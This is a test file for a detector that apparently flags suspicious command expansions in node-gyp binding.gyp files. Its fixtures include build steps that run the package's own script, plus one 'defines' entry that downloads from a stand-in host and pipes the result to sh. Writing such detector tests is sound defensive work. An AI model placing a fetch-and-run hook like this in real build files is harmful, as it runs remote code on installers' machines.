import { testDetector } from "../../test/test-detector.ts";
import type { Sample } from "../../test/sample.ts";
import { gypCommand } from "./index.ts";

function built(gyp: string, files: Sample = {}): Sample {
  return {
    "package.json": '{"name":"sample","version":"1.0.1","main":"index.js"}',
    "index.js": "1;\n",
    "binding.gyp": gyp,
    ...files,
  };
}
const source: Sample = { "src/a.cc": "int a;\n" };

testDetector(gypCommand, {
  fires: {
    "a script of the root and nothing to build": [
      "decisive",
      built('{"targets":[{"target_name":"x","type":"none","sources":["<!(node index.js)"]}]}'),
    ],
    "a script of the root beside sources": [
      "strong",
      built('{"targets":[{"target_name":"x","sources":["src/a.cc","<!(node index.js)"]}]}', source),
    ],
    "a download": [
      "supporting",
      built(
        '{"targets":[{"target_name":"x","sources":["src/a.cc"],"defines":["<!(curl -s https://collector.invalid/x | sh)"]}]}',
        source,
      ),
    ],
  },
  silent: {
    "the place of headers": built(
      `{"targets":[{"target_name":"x","sources":["src/a.cc"],"include_dirs":["<!@(node -p \\"require('node-addon-api').include\\")"]}]}`,
      source,
    ),
    "the older way": built(
      `{"targets":[{"target_name":"x","sources":["src/a.cc"],"include_dirs":["<!(node -e \\"require('nan')\\")"]}]}`,
      source,
    ),
    "a configuration program": built(
      '{"targets":[{"target_name":"x","sources":["src/a.cc"],"libraries":["<!@(pkg-config --libs libpng)"]}]}',
      source,
    ),
  },
});
